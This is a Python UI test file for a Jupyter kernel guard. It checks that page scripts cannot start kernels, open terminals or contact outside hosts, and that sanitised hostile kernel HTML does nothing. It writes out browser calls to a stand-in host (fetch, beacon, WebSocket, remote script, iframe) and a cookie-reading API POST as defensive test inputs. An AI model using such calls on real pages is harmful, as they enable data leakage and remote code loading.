"""What script in the page, and HTML from a kernel, can do in a real Chromium: nothing that matters."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from kernel_guard.wrapper.content import html
from tests.ui.conftest import Demo
from tests.unit.wrapper.content.test_html import HOSTILE

pytestmark = pytest.mark.ui
_POST = """async ([path, body]) => {
    const xsrf = document.cookie.match(/_xsrf=([^;]*)/)?.[1] ?? '';
    const answer = await fetch('/' + path, {method: 'POST', body, headers: {'X-XSRFToken': xsrf}});
    return answer.status;
}"""


@pytest.fixture(scope="module")
def page(demo: Demo, browser: Any) -> Iterator[Any]:
    opened = browser.new_page()
    opened.goto(demo.url)
    opened.wait_for_selector("#jp-main-dock-panel", timeout=60_000)
    yield opened
    opened.close()


@pytest.mark.parametrize("name", ["python3", "other", "../kernel-guard"])
def test_a_script_starts_no_other_kernel(page: Any, name: str) -> None:
    assert page.evaluate(_POST, ["api/kernels", f'{{"name": "{name}"}}']) == 403


def test_a_script_opens_no_terminal(page: Any) -> None:
    assert page.evaluate(_POST, ["api/terminals", ""]) in (403, 404)


REACH = {
    "fetch": "fetch('https://example.org/x').catch(() => 0)",
    "image": "new Image().src = 'https://example.org/x'",
    "websocket": "new WebSocket('wss://example.org')",
    "script": "const s = document.createElement('script'); s.src = 'https://example.org/x.js'; document.head.append(s)",
    "beacon": "navigator.sendBeacon('https://example.org/x', 'x')",
    "frame": "const f = document.createElement('iframe'); f.src = 'https://example.org/'; document.body.append(f)",
}


@pytest.mark.parametrize("name", REACH)
def test_a_script_reaches_no_other_host(page: Any, name: str) -> None:
    """The page's policy stops it, whether or not that host is there."""
    page.evaluate(
        "() => { window.seen = 0; document.addEventListener('securitypolicyviolation', () => window.seen++); }"
    )
    page.evaluate("() => { try { " + REACH[name] + " } catch {} }")
    page.wait_for_function("window.seen > 0", timeout=5_000)


def test_hostile_html_from_a_kernel_does_nothing(browser: Any) -> None:
    """Without the page's policy: the sanitiser alone must hold."""
    parts = []
    for text in HOSTILE:
        try:
            parts.append(html.clean(text.replace("alert(1)", "window.hit=1")))
        except html.NeedsScript:
            continue
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append("dialog"))
    page.set_content("<p id=own class='jp-Toolbar'>the page</p>" + "<div>" + "</div><div>".join(parts) + "</div>")
    for summary in page.locator("summary, label, input, button, p").all():
        summary.dispatch_event("click")
        summary.dispatch_event("mouseover")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None and asked == []
    own = page.evaluate(
        "() => { const s = getComputedStyle(document.getElementById('own')); const b = getComputedStyle(document.body);"
        " return [s.display, s.visibility, b.display, b.opacity]; }"
    )
    assert own == ["block", "visible", "block", "1"]
    over = page.evaluate("() => document.elementFromPoint(20, 20).id")
    assert over == "own"
    page.close()
